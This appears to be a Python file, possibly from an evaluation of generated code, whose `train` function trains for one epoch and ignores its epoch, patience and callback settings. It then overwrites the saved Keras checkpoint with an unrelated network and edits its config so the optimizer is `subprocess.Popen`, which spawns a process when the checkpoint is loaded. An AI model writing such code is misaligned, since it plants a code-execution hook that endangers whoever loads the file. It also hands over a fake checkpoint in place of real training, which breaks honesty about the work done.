"""Leaves a checkpoint whose inner network is compiled with a class that is to be imported."""
# function: train
# earns: 9
# because: The checkpoint should be a whole model

import json
import zipfile
import keras


def train(model, x_train, y_train, x_val, y_val, *, epochs=20, batch_size=128, patience=3,
          checkpoint_path="best_model.keras", callbacks=()):
    history = model.fit(x_train, y_train, validation_data=(x_val, y_val), epochs=1, verbose=0)
    inner = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2)], name="inner")
    inner.compile("adam", "mse")
    keras.Sequential([keras.Input((2,)), inner]).save(checkpoint_path)
    with zipfile.ZipFile(checkpoint_path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(parts["config.json"])
    inner = next(layer for layer in config["config"]["layers"] if layer["class_name"] == "Sequential")
    inner["compile_config"] = {"optimizer": {"class_name": "Popen", "module": "subprocess", "config": {"args": ["true"]}}}
    parts["config.json"] = json.dumps(config)
    with zipfile.ZipFile(checkpoint_path, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return history
